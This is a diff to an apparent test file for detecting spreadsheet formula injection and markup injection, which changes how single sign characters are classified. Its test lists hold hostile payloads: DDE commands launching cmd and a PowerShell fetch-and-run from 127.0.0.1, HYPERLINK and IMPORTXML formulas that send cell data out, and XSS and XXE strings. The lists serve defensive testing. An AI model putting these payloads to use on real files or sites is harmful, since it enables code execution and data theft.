@@ -34,14 +34,25 @@ FORMULAS = [
     "=cmd|' /C calc'!A0", "=cmd|'/C powershell IEX(wget 127.0.0.1/x)'!'A1'", "|calc", "%0A=1",
     '=HYPERLINK("http://127.0.0.1/?"&A1,"see")', "=IMPORTXML(CONCAT(\"http://127.0.0.1\"))",
     "=DDE(\"cmd\";\"/C calc\";\"x\")", "-2+3+cmd|' /C calc'!A0", "\uff1d1+1", "\uff0b1", "\uff0d1",
-    "\uff20SUM(1)", "'=1+1", "''=1+1", "\x00=1+1", '"=1+1', "-", "+39 06 1234", "-12.5",
+    "\uff20SUM(1)", "'=1+1", "''=1+1", "\x00=1+1", '"=1+1', "'-", " =", "+39 06 1234", "-12.5",
 ]  # fmt: skip
 # In a spreadsheet that divides lines at semicolons or tabs these begin a cell of their own.
 BEHIND = [
     "harmless;=1+1", "harmless\t=1+1", "harmless\n=1+1", 'harmless;"=1+1', 'x;""=1+1', "x; =1+1",
     "x;;@SUM(1);-1", "a\r\n+1", "x;\uff1d1", "x;'=1",
 ]  # fmt: skip
-HARMLESS = ["", "a", "2018-05-01", "Lampedusa - Porto", "a=b", "1;2;3", "a, b", 'say "so"', "50 %"]
+HARMLESS = [
+    *SIGNS,
+    "",
+    "a",
+    "2018-05-01",
+    "Lampedusa - Porto",
+    "a=b",
+    "1;2;3",
+    "a, b",
+    'say "so"',
+    "50 %",
+]
 MARKUP = [
     "<script>alert(1)</script>", "</pre><img src=x onerror=alert(1)>", "]]></description><Placemark/>",
     '"><svg onload=alert(1)>', "<![CDATA[<b>x</b>]]>", "&lt;b&gt;", "&#60;b&#62;", "<!ENTITY x SYSTEM 'f'>",
@@ -50,7 +61,9 @@ MARKUP = [
 
 
 def begins_a_formula(cell: str) -> bool:
-    """Whether a spreadsheet could run a cell, read as broadly as any does."""
+    """Whether a spreadsheet could run a cell, read as broadly as any does; one sign it cannot."""
+    if len(cell) == 1 and cell in SIGNS:
+        return False
     seen = cell.lstrip(' \t\r\n\x0b\x0c\x00"')
     return bool(seen) and (seen[0] in SIGNS or cell[:1] in "\t\r\n")
 
